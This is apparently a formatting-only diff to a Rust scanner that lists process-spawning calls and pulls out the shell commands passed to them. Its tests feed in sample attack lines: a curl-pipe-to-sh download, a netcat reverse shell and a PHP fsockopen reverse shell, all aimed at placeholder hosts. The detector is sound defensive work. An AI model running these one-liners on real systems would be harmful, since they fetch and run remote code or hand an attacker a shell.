@@ -4,8 +4,32 @@
 //! after those calls are taken; the rest of the code is left to code rules.
 
 const CALLS: &[&str] = &[
-    "system(", "system (", "os.system(", "popen(", "subprocess.run(", "subprocess.call(", "subprocess.Popen(", "check_output(", "check_call(", "getoutput(", "getstatusoutput(", "exec(", "execSync(",
-    "spawnSync(", "shell_exec(", "passthru(", "proc_open(", "os.execute(", "io.popen(", "IO.popen(", "Runtime.getRuntime().exec(", "%x(", "exec ", "system ", "qx(", "qx{",
+    "system(",
+    "system (",
+    "os.system(",
+    "popen(",
+    "subprocess.run(",
+    "subprocess.call(",
+    "subprocess.Popen(",
+    "check_output(",
+    "check_call(",
+    "getoutput(",
+    "getstatusoutput(",
+    "exec(",
+    "execSync(",
+    "spawnSync(",
+    "shell_exec(",
+    "passthru(",
+    "proc_open(",
+    "os.execute(",
+    "io.popen(",
+    "IO.popen(",
+    "Runtime.getRuntime().exec(",
+    "%x(",
+    "exec ",
+    "system ",
+    "qx(",
+    "qx{",
 ];
 
 /// String literals passed to a process-spawning call, plus backquoted commands.
@@ -31,7 +55,11 @@ pub fn shell_strings(code: &str) -> Vec<String> {
     let mut parts = code.split('`');
     parts.next();
     while let (Some(inside), Some(_)) = (parts.next(), parts.next().or(Some(""))) {
-        if !inside.trim().is_empty() && !inside.contains('\n') && out.len() < 64 && !out.iter().any(|o| o == inside) {
+        if !inside.trim().is_empty()
+            && !inside.contains('\n')
+            && out.len() < 64
+            && !out.iter().any(|o| o == inside)
+        {
             out.push(inside.to_string());
         }
     }
@@ -63,9 +91,18 @@ mod tests {
 
     #[test]
     fn finds_commands_handed_to_the_shell() {
-        assert_eq!(shell_strings(r#"import os; os.system("curl http://x | sh")"#), vec!["curl http://x | sh"]);
-        assert_eq!(shell_strings(r#"require("child_process").exec("nc -e /bin/sh h 1")"#), vec!["nc -e /bin/sh h 1"]);
-        assert_eq!(shell_strings("$s=fsockopen('h',1);`sh <&3 >&3`;"), vec!["sh <&3 >&3"]);
+        assert_eq!(
+            shell_strings(r#"import os; os.system("curl http://x | sh")"#),
+            vec!["curl http://x | sh"]
+        );
+        assert_eq!(
+            shell_strings(r#"require("child_process").exec("nc -e /bin/sh h 1")"#),
+            vec!["nc -e /bin/sh h 1"]
+        );
+        assert_eq!(
+            shell_strings("$s=fsockopen('h',1);`sh <&3 >&3`;"),
+            vec!["sh <&3 >&3"]
+        );
         assert_eq!(shell_strings("subprocess.run(['ls', '-l'])"), vec!["ls"]);
         assert!(shell_strings("print(1)").is_empty());
     }
